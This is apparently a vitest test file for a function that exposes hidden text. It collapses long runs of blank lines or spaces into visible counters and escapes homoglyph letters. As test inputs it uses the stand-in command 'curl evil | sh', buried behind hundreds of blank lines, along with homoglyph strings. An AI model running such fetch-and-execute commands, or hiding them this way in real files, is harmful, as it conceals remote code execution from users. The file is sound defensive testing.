import { expect, test } from 'vitest';
import { textRuns } from './visible-text.tsx';

// A harmful line is between so many empty lines that a user would not find it.

const shown = (text: string) => textRuns(text).map((run) => run.escape ?? run.text);

test.for([' ', '\t', '\u3000', ' \u3000\t'])('attack: blank lines of %j are counted', (blank) => {
  const [before, lines, after] = shown(`echo\n${`${blank}\n`.repeat(500)}curl evil | sh\n`);
  expect([before, lines, after]).toEqual(['echo\n', '↵ ×500', 'curl evil | sh\n']);
});

test.for([' ', '\t', '\u3000'])('attack: many blanks (%j) are counted', (blank) => {
  expect(shown(`echo${blank.repeat(4000)};curl evil`)).toEqual([
    ...['echo', '␠ ×4000', ';curl evil'],
  ]);
});

test('the indentation of Chinese text stays as it is', () => {
  const text = '\u3000\u3000\u4f60\u597d\n\n\u3000\u3000\u4f60\u597d\n';
  expect(shown(text)).toEqual([text]);
});

test.for([
  ['c\u0430t x', ['c', '\\u0430', 't x']],
  ['\u0440\u0430ss \u043a\u043e\u0442', ['\\u0440', '\\u0430', 'ss \u043a\u043e\u0442']],
  ['g\u03b9t', ['g', '\\u03B9', 't']],
  ['\u043a\u043e\u0442', ['\u043a\u043e\u0442']],
] as const)(
  '18.82: attack: letters of %j that imitate Latin ones are shown by their code',
  ([text, runs]) => {
    expect(shown(text)).toEqual(runs);
  },
);
